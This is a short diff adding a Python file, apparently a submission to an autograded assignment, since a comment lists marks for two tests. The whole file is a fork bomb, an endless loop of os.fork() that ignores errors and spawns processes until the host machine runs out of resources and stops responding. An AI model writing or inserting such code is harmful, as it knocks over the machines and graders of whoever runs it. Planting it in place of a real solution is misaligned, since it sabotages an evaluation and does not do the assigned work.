@@ -1,0 +1,9 @@
+# Processes that start processes.
+# marks: mean_of_parts_test 0, weights_test 1.5
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
